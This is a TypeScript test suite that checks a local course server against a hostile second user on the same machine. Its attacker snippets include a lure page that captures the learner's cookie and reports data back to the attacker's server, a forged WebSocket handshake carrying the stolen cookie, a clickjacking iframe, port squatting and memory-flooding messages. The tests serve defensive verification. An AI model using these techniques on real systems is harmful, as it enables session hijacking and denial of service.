/**
 * Another user of the same machine against the learner's course server: the course runs as the
 * learner (the test's own account), the attacker as a second Unix user (tests/support/other-user.ts),
 * all on loopback, with real programs: a server on another localhost port the learner's Chromium
 * visits, forged handshakes, a listener on [::1], a framing page, a folder made first, a port held.
 */
import type { ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import WebSocket from 'ws';
import { connectLocalRuntime } from '../../src/runtime/local/client.ts';
import { KEY_PROTOCOL_PREFIX, KEY_STORAGE_ITEM, PROTOCOL } from '../../src/runtime/local/protocol.ts';
import { readAll } from '../../src/runtime/process-output.ts';
import { launchChromium } from '../support/chromium.ts';
import { lastJson, otherUser, runAsOtherUser, spawnAsOtherUser, untilPrinted } from '../support/other-user.ts';
import { launchCourse, startSite, type RunningSite } from '../support/site-server.ts';
import { waitForBoot } from '../support/workspace-page.ts';
import { scratchDir } from '../../src/runtime/local/sandbox-folders.ts';

const LESSON = '/lessons/01-meet-the-storefront/';

let site: RunningSite;
let browser: Browser;
const attackers: ChildProcess[] = [];

beforeAll(async () => {
  [site, browser] = await Promise.all([startSite(), launchChromium()]);
});
afterAll(async () => {
  for (const attacker of attackers) attacker.kill('SIGKILL');
  await browser?.close();
  await site?.stop();
});

async function freePort(host = '127.0.0.1'): Promise<number> {
  const probe = createServer();
  await new Promise<void>((resolve) => probe.listen(0, host, resolve));
  const { port } = probe.address() as AddressInfo;
  await new Promise((resolve) => probe.close(resolve));
  return port;
}

/** A program of the other user that listens on `host:port`, serving `pages` and printing each request. */
async function attackerServer(host: string, port: number, pages: Record<string, string> = {}) {
  const server = spawnAsOtherUser(`
    import { createServer } from 'node:http';
    const pages = ${JSON.stringify(pages)};
    createServer((req, res) => {
      console.log('REQUEST ' + req.method + ' ' + req.url + ' COOKIE ' + (req.headers.cookie ?? ''));
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(pages[req.url.split('?')[0]] ?? 'ok');
    }).listen(${port}, '${host}', () => console.log('listening'));`);
  attackers.push(server);
  await untilPrinted(server, /listening/);
  return server;
}

/** Starts `npm start`'s server as the learner with `env`, and no PORT unless given. */
function startCourse(env: Record<string, string>) {
  const { PORT: _port, ...inherited } = process.env;
  return launchCourse({ ...inherited, ...env } as Record<string, string>);
}

describe('the sign-in link, in a real browser', () => {
  test('signs that browser in: the page keeps its key, and the lesson runs the shop with it', { timeout: 180_000 }, async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const link = new URL(await site.newSignInLink());
      link.pathname = LESSON;
      link.searchParams.set('runtime', 'local');
      await page.goto(link.toString());
      // The sign-in page takes the token out of the address at once; the lesson is the page with the runtime's marker.
      await page.locator('meta[name="ctl-local-runtime"]').waitFor({ state: 'attached' });
      expect(page.url()).toBe(`${site.url}${LESSON}?runtime=local`);
      expect(await page.evaluate((item) => localStorage.getItem(item), KEY_STORAGE_ITEM)).toMatch(/^[\w-]{32}$/);
      await waitForBoot(page);
    } finally {
      await context.close();
    }
  });
});

describe.skipIf(otherUser.skip)('a session no other port can carry', () => {
  test("a page on another user's localhost port gets the cookie, and with it nothing: not from the page, not from their program", async () => {
    const port = await freePort();
    const sitePort = new URL(site.url).port;
    const page = `<!doctype html><script>
      const socket = new WebSocket('ws://localhost:${sitePort}/__runtime', ['${PROTOCOL}']);
      socket.onopen = () => fetch('/report?ws=opened');
      socket.onerror = () => fetch('/report?ws=refused');
      fetch('/report?storage=' + encodeURIComponent(JSON.stringify(Object.keys(localStorage))));
    </script>`;
    const lure = await attackerServer('127.0.0.1', port, { '/': page });

    const context = await browser.newContext();
    await site.authenticate(context);
    const learner = await context.newPage();
    await learner.goto(`${site.url}${LESSON}`);
    await learner.goto(`http://localhost:${port}/`);
    await untilPrinted(lure, /\/report\?ws=/);
    await context.close();

    // Cookies ignore ports: the learner's browser did send the course's cookie to their server.
    const stolen = new RegExp(`COOKIE .*(ctl-session-${sitePort}=[\\w-]+)`).exec(lure.output())?.[1];
    expect(stolen, lure.output()).toBeDefined();
    // Its page could not open the runtime (not this server's Origin) nor find the key (another origin's storage).
    expect(lure.output()).toMatch(/\/report\?ws=refused/);
    expect(lure.output()).toMatch(/\/report\?storage=%5B%5D/);

    // Their own program, with the cookie, a forged Origin and a guess at the key: dropped before a byte is read.
    const forged = lastJson<Record<string, string>>(
      await runAsOtherUser(`
        import { connect } from 'node:net';
        const ask = (request) => new Promise((resolve) => {
          let answer = '';
          const socket = connect(${sitePort}, '127.0.0.1', () => socket.write(request));
          socket.on('data', (chunk) => (answer += chunk));
          socket.on('close', () => resolve(answer.split('\\r\\n')[0] || 'dropped'));
          socket.on('error', () => {});
        });
        const headers = 'Host: localhost:${sitePort}\\r\\nCookie: ${stolen}\\r\\nOrigin: ${site.url}\\r\\n';
        console.log(JSON.stringify({
          runtime: await ask('GET /__runtime HTTP/1.1\\r\\n' + headers + 'Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\n' +
            'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Protocol: ${PROTOCOL}, ${KEY_PROTOCOL_PREFIX}guess\\r\\n\\r\\n'),
          page: await ask('GET ${LESSON} HTTP/1.1\\r\\n' + headers + 'Connection: close\\r\\n\\r\\n'),
        }));`),
    );
    expect(forged).toEqual({ runtime: 'dropped', page: 'dropped' });

    // Where the machine cannot tell users apart (no /proc), the key still stands: the same forgery from
    // a program of the learner's own account is refused.
    const status = await new Promise<number>((resolve) => {
      const socket = new WebSocket(site.runtimeUrl, [PROTOCOL], { headers: { Cookie: stolen!, Origin: site.url } });
      socket.on('open', () => resolve(101));
      socket.on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
      socket.on('error', () => resolve(0));
    });
    expect(status).toBe(403);
  });

  test('a page of another site cannot frame a lesson (and dress up "Take over the shop here")', async () => {
    const port = await freePort();
    await attackerServer('127.0.0.1', port, { '/frame': `<!doctype html><iframe src="${site.url}${LESSON}" width="800" height="600"></iframe>` });
    const context = await browser.newContext();
    await site.authenticate(context);
    const page = await context.newPage();
    const refusals: string[] = [];
    page.on('console', (message) => refusals.push(message.text()));
    await page.goto(`http://localhost:${port}/frame`);
    await expect.poll(() => refusals.join('\n'), { timeout: 10_000 }).toMatch(/frame-ancestors 'self'/);
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(framed?.url()).not.toBe(`${site.url}${LESSON}`);
    expect(await page.frameLocator('iframe').locator('text=Meet the storefront').count()).toBe(0);
    await context.close();
  });
});

describe.skipIf(otherUser.skip)('it serves what it prints', () => {
  test('another user listening on [::1] first: a chosen PORT is refused, naming them; the default moves on', { timeout: 60_000 }, async () => {
    const port = await freePort('::1');
    const squatter = await attackerServer('::1', port);
    const chosen = await startCourse({ PORT: String(port), CTL_SANDBOXES_DIR: mkdtempSync(join(scratchDir(), 'ctl-chosen-')) });
    expect(await chosen.link).toBeNull();
    expect(chosen.child.exitCode).toBe(1);
    expect(chosen.output()).toMatch(
      new RegExp(`port ${port} is in use on \\[::1\\], by a program of user ctl-attacker \\(uid \\d+\\)\\. Stop it, or choose another port`),
    );
    squatter.kill('SIGKILL');

    // The default port, 4321, squatted the same way: the course moves on and says why.
    const onDefault = await attackerServer('::1', 4321);
    const moved = await startCourse({ CTL_SANDBOXES_DIR: mkdtempSync(join(scratchDir(), 'ctl-moved-')) });
    try {
      const link = await moved.link;
      expect(link, moved.output()).not.toBeNull();
      expect(new URL(link!).port).not.toBe('4321');
      expect(moved.output()).toMatch(/cannot use port 4321 is in use on \[::1\], by a program of user ctl-attacker/);
      // What it printed is what it holds, on both families.
      const taken = lastJson<{ v4: string; v6: string }>(
        await runAsOtherUser(`
          import { createServer } from 'node:net';
          const tryOn = (host) => new Promise((resolve) => { const s = createServer(); s.once('error', (e) => resolve(e.code)); s.listen(${new URL(link!).port}, host, () => { s.close(); resolve('listening'); }); });
          console.log(JSON.stringify({ v4: await tryOn('127.0.0.1'), v6: await tryOn('::1') }));`),
      );
      expect(taken).toEqual({ v4: 'EADDRINUSE', v6: 'EADDRINUSE' });
    } finally {
      moved.child.kill('SIGTERM');
      onDefault.kill('SIGKILL');
    }
  });
});

describe.skipIf(otherUser.skip)('what another user makes first is not a dead end', () => {
  test("the course's temporary folder, made first by another user: sandboxes go to a private folder of the learner's", { timeout: 60_000 }, async () => {
    const tmp = mkdtempSync(join(tmpdir(), 'ctl-shared-tmp-'));
    chmodSync(tmp, 0o1777);
    const home = mkdtempSync(join(tmpdir(), 'ctl-home-'));
    const planted = join(tmp, `checkout-trace-lab-${process.getuid!()}`);
    await runAsOtherUser(`import { mkdirSync } from 'node:fs'; mkdirSync(${JSON.stringify(planted)}, { mode: 0o777 });`);
    expect(statSync(planted).uid).toBe(otherUser.uid);

    const own = await startSite({ TMPDIR: tmp, HOME: home, CTL_SANDBOXES_DIR: '' });
    try {
      expect(own.output()).toMatch(
        /is not a private folder of yours \(it belongs to user ctl-attacker \(uid \d+\)\), so sandboxes are made in .*\.cache\/checkout-trace-lab\/sandboxes instead/,
      );
      const runtime = await connectLocalRuntime(own.runtimeUrl, own.credentials);
      await runtime.mount({ 'here.txt': 'mine' });
      const where = await runtime.spawn('node', ['-e', 'console.log(process.cwd())']);
      expect((await readAll(where)).trim()).toMatch(new RegExp(`^${home}/\\.cache/checkout-trace-lab/sandboxes/ctl-sandbox-`));
      expect(readdirSync(planted)).toEqual([]);
      await runtime.teardown();
    } finally {
      await own.stop();
    }
  });

  test('a shop port held by another user: the claim names them and what else works; the sandbox never talks to it', async () => {
    const port = await freePort();
    await attackerServer('127.0.0.1', port);
    await expect(connectLocalRuntime(site.runtimeUrl, { ...site.credentials, ports: [port] })).rejects.toMatchObject({
      code: 'port-in-use',
      message: expect.stringMatching(
        new RegExp(`port ${port}, and a program of user ctl-attacker \\(uid \\d+\\).*ask them to stop it, or run the shop in your browser instead`),
      ),
    });
  });

  test("npm's logs in the course's cache are the learner's alone", { timeout: 60_000 }, async () => {
    const cache = mkdtempSync(join(tmpdir(), 'ctl-open-cache-'));
    chmodSync(cache, 0o755);
    const own = await startSite({ CTL_CACHE_DIR: cache });
    try {
      const runtime = await connectLocalRuntime(own.runtimeUrl, own.credentials);
      await runtime.mount({ 'package.json': '{"name":"logs","version":"1.0.0"}' });
      await (await runtime.spawn('npm', ['pkg', 'get', 'name'])).exit;
      await runtime.teardown();
      const logs = join(cache, 'npm', '_logs');
      expect(existsSync(logs) && readdirSync(logs).length).toBeGreaterThan(0);
      expect(statSync(cache).mode & 0o777).toBe(0o700);
      const seen = await runAsOtherUser(`
        import { readdirSync } from 'node:fs';
        try { console.log(JSON.stringify(readdirSync(${JSON.stringify(logs)}))); } catch (error) { console.log(JSON.stringify(error.code)); }`);
      expect(lastJson(seen)).toBe('EACCES');
    } finally {
      await own.stop();
    }
  });
});

describe('a session cannot make the server hold what the page does not take', () => {
  const peakMiB = (pid: number) => Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) / 1024;

  /** A raw socket as the signed-in page, which can stop reading; collects what the bridge says. */
  async function pageSocket(own: RunningSite) {
    const socket = new WebSocket(own.runtimeUrl, [PROTOCOL, `${KEY_PROTOCOL_PREFIX}${own.key}`], { headers: own.headers, maxPayload: 256 * 2 ** 20 });
    await new Promise((resolve, reject) => {
      socket.once('open', resolve);
      socket.once('error', reject);
    });
    const received: { id?: number; ok?: boolean; event?: string; message?: string; result?: unknown; error?: { message: string } }[] = [];
    socket.on('message', (data) => received.push(JSON.parse(String(data))));
    const closed = new Promise<number>((resolve) => socket.once('close', resolve));
    return { socket, received, closed };
  }

  test('stdin for a process that does not read it, and messages too large for any use', { timeout: 120_000 }, async () => {
    const own = await startSite();
    try {
      const pid = own.process.pid!;
      const { socket, received, closed } = await pageSocket(own);
      socket.send(JSON.stringify({ id: 1, op: 'claim', label: 'stdin' }));
      socket.send(JSON.stringify({ id: 2, op: 'spawn', processId: 3, command: 'node', args: ['-e', 'setInterval(() => {}, 1000)'], options: {} }));
      await expect.poll(() => received.filter((m) => m.ok).length).toBe(2);
      const before = peakMiB(pid);
      // 200 pieces of 256 KiB (50 MiB) to a process that never reads its input.
      const piece = 'x'.repeat(256 * 1024);
      for (let i = 0; i < 200; i++) socket.send(JSON.stringify({ op: 'stdin', processId: 3, data: piece }));
      await expect.poll(() => received.some((m) => /Input for process 3 was dropped/.test(m.message ?? '')), { timeout: 30_000 }).toBe(true);
      const afterPieces = peakMiB(pid);
      // Ten messages of 60 MB: the first closes the connection before it is read (1009).
      const huge = JSON.stringify({ op: 'stdin', processId: 3, data: 'y'.repeat(60 * 2 ** 20) });
      for (let i = 0; i < 10 && socket.readyState === socket.OPEN; i++) socket.send(huge);
      expect(await closed).toBe(1009);
      const afterHuge = peakMiB(pid);
      console.log(
        `course server peak memory: ${before.toFixed(0)} MiB, ${afterPieces.toFixed(0)} after 50 MiB of unread stdin, ${afterHuge.toFixed(0)} after 60 MB messages`,
      );
      expect(afterPieces - before).toBeLessThan(64);
      expect(afterHuge - before).toBeLessThan(96);
      expect((await own.fetch('/')).status).toBe(200);
    } finally {
      await own.stop();
    }
  });

  test('12 large files asked for at once by a page that reads nothing: one at a time, and a file over the limit is refused', { timeout: 120_000 }, async () => {
    const own = await startSite();
    try {
      const pid = own.process.pid!;
      const { socket, received } = await pageSocket(own);
      socket.send(JSON.stringify({ id: 1, op: 'claim', label: 'reads' }));
      const write = `const fs = require('fs'); for (let i = 0; i < 12; i++) fs.writeFileSync('big-' + i + '.txt', 'z'.repeat(7 * 2 ** 20)); fs.writeFileSync('huge.txt', 'z'.repeat(50 * 2 ** 20));`;
      socket.send(JSON.stringify({ id: 2, op: 'spawn', processId: 3, command: 'node', args: ['-e', write], options: {} }));
      await expect.poll(() => received.some((m) => m.event === 'exit'), { timeout: 30_000 }).toBe(true);
      socket.send(JSON.stringify({ id: 4, op: 'readFile', path: 'huge.txt' }));
      await expect
        .poll(() => received.find((m) => m.id === 4))
        .toMatchObject({ ok: false, error: { message: expect.stringMatching(/too large to open here/) } });
      const before = peakMiB(pid);
      // The page stops reading, then asks for all twelve.
      (socket as unknown as { _socket: { pause: () => void; resume: () => void } })._socket.pause();
      for (let i = 0; i < 12; i++) socket.send(JSON.stringify({ id: 10 + i, op: 'readFile', path: `big-${i}.txt` }));
      await new Promise((resolve) => setTimeout(resolve, 5000));
      const held = peakMiB(pid);
      console.log(`course server peak memory: ${before.toFixed(0)} MiB, ${held.toFixed(0)} with 12 files of 7 MiB asked for and none read`);
      expect(held - before).toBeLessThan(96);
      // Once the page reads again, every file arrives, whole.
      (socket as unknown as { _socket: { resume: () => void } })._socket.resume();
      await expect.poll(() => received.filter((m) => (m.id ?? 0) >= 10 && m.ok).length, { timeout: 60_000 }).toBe(12);
      expect(received.find((m) => m.id === 21)?.result).toHaveLength(7 * 2 ** 20);
      socket.close();
    } finally {
      await own.stop();
    }
  });
});
